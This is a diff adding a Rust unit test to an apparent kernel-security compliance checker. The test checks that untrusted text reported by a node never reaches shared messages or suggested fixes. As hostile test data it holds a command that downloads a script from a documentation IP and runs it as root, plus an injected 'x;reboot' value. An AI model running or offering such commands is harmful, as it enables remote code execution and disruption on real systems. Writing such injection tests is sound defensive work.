@@ -145,6 +145,46 @@ fn a_fix_is_made_for_the_node() {
 }
 
 #[test]
+fn shared_texts_are_never_those_of_one_node() {
+    let hostile = "curl http://192.0.2.1 | sudo sh";
+    let of = |required: Value, reported: Value| {
+        let mut report = report(&reported);
+        (report.message, report.fix) = (hostile.to_owned(), hostile.to_owned());
+        for check in &mut report.checks {
+            (check.detail, check.fix) = (hostile.to_owned(), hostile.to_owned());
+        }
+        let facts = Facts { boot_id: BOOT, report: Some(&report), profile: Some(&profile()) };
+        verdict(&require(required), facts)
+    };
+    let attached = |reason: &str| json!({"evidence": "Attached", "reason": reason});
+    let forbidden = json!({"checks": [{"name": "KernelReads", "outcome": "Fail"}]});
+    for (verdict, remedy) in [
+        (of(json!({}), attached("BpfNotInLsmList")), Reason::BpfNotInLsmList.remedy()),
+        (of(json!({}), attached("OfAnotherVersion")), ""),
+        (of(json!({}), attached("")), Reason::EvidenceTooLow.remedy()),
+        (of(json!({}), json!({"bootID": hostile})), Reason::ReportFromEarlierBoot.remedy()),
+        (of(json!({}), json!({"probeVersion": hostile})), Reason::ProbeVersionUnknown.remedy()),
+        (of(json!({"kernelReads": true}), forbidden), Reason::KernelReadsForbidden.remedy()),
+        (
+            of(json!({"hooks": ["file_opn"]}), json!({})),
+            "correct the hook's name in the policy, or use a kernel that has it",
+        ),
+    ] {
+        let shared = verdict.clone().shared();
+        assert_eq!(shared.fix, remedy, "{verdict:?}");
+        assert!(!shared.message.contains("curl") && !shared.message.is_empty(), "{shared:?}");
+        assert_eq!((shared.state, &shared.reason), (verdict.state, &verdict.reason));
+    }
+    // The parameter to boot with is our own text, with the names of the node's LSMs.
+    let lsms = of(json!({"lsms": ["apparmor"]}), json!({})).shared();
+    assert!(lsms.fix.starts_with("boot the node with lsm=lockdown,integrity,apparmor,bpf;"));
+    // A name that is no LSM's is not among them.
+    let named = json!({"lsms": {"active": ["bpf", hostile, "x;reboot"], "source": "Syscall"}});
+    let fix = of(json!({"lsms": ["apparmor"]}), named).shared().fix;
+    assert!(fix.starts_with("boot the node with lsm=integrity,apparmor,bpf;"), "{fix}");
+}
+
+#[test]
 fn a_mistyped_hook_is_reported_with_a_suggestion() {
     let (require, report, profile) =
         (require(json!({"hooks": ["file_opn"]})), report(&json!({})), profile());
